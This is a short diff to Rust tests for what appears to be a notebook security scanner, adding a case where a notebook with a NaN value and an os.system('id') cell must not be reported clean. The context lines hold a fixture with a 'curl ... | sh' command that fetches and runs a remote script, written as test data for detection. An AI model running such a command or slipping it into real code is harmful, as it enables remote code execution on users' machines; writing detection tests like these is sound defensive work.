@@ -151,6 +151,13 @@ fn values_in_a_line_beyond_what_is_followed_are_not_proven() {
 }
 
 #[test]
+fn a_notebook_that_only_python_reads_is_not_clean() {
+    let text = r#"{"nbformat": 4, "x": NaN, "cells": [{"cell_type": "code", "source": "import os\nos.system('id')", "outputs": []}]}"#;
+    let report = crate::scan_bytes(&"a.ipynb".parse().unwrap(), text.as_bytes(), &Limits::default());
+    assert_ne!(report.outcome, Outcome::Clean);
+}
+
+#[test]
 fn a_cell_hides_no_other() {
     let harm = "import os\nos.system('curl https://198.51.100.7/x | sh')";
     let further = "    import os\n    os.system('curl https://198.51.100.7/x | sh')";
